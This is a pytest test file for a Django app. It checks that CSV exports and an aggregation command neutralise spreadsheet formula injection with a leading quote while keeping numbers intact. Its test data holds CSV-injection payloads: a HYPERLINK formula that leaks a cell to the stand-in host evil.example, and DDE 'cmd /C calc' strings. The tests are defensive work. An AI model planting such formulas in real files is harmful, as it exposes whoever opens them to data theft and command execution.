"""Text that a spreadsheet would run as a formula is neutralised in every CSV we write (OWASP's rule:
a leading `'`), while numbers, negative ones included, stay numbers."""

import csv
from io import StringIO

import pandas as pd
import pytest
from django.core.management import call_command

from curation.models import Publisher, Video
from tests.curation.export_fixtures import export, release_fixture, var_dir_fixture  # noqa: F401

ATTACKS = {
    "v00": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "v03": "+1+cmd|' /C calc'!A0",
    "v05": "-2+3+cmd|' /C calc'!A0",
    "v06": "@SUM(1+1)*cmd|' /C calc'!A0",
    "v07": "\t=1+1",
    "v08": "\r=1+1",
}


@pytest.mark.django_db
def test_titles_that_start_a_formula_reach_videos_csv_neutralised_and_numbers_do_not(release):
    for external_id, title in ATTACKS.items():
        Video.objects.filter(dataset=release, external_id=external_id).update(title=title)
    Video.objects.filter(dataset=release, external_id="v00").update(rotation=-90, clicks=0)
    Publisher.objects.filter(dataset=release, external_id="pub1").update(external_id="=pub")
    Video.objects.filter(dataset=release, external_id="v01").update(title="a;=1+1, harmless")

    _, folder = export(release, "csv", split=None)

    with open(folder / "videos.csv", newline="") as f:
        rows = {row["id"]: row for row in csv.DictReader(f)}
    for external_id, title in ATTACKS.items():
        assert rows[external_id]["title"] == "'" + title
    assert rows["v02"]["publisher"] == "'=pub" and rows["v01"]["title"] == "a;=1+1, harmless"
    raw = (folder / "videos.csv").read_text()
    assert '"a;=1+1, harmless"' in raw  # quoted: one cell even where ";" separates cells
    frame = pd.read_csv(folder / "videos.csv").set_index("id")
    assert frame.loc["v00", "rotation"] == -90 and frame["rotation"].dtype.kind == "i"
    assert frame.loc["v00", "duration"] == 1.0 and frame.loc["v01", "title"] == "a;=1+1, harmless"


def test_aggregate_file_neutralises_item_and_label_text_but_not_numbers(tmp_path):
    answers = tmp_path / "answers.csv"
    answers.write_text(
        "item,worker,label\n"
        '"=HYPERLINK(""http://evil.example"")",w1,@yes\n"=HYPERLINK(""http://evil.example"")",w2,@yes\n'
        "plain,w1,-3\nplain,w2,-3\n"
    )
    out = tmp_path / "verdicts.csv"
    call_command("aggregate_file", str(answers), "--out", str(out), "--method", "mv", stdout=StringIO())
    with open(out, newline="") as f:
        assert list(csv.reader(f)) == [
            ["item", "label", "confidence"],
            ['\'=HYPERLINK("http://evil.example")', "'@yes", "1.0000"],
            ["plain", "-3", "1.0000"],
        ]
    assert out.read_text().splitlines()[2] == '"plain",-3,1.0000'
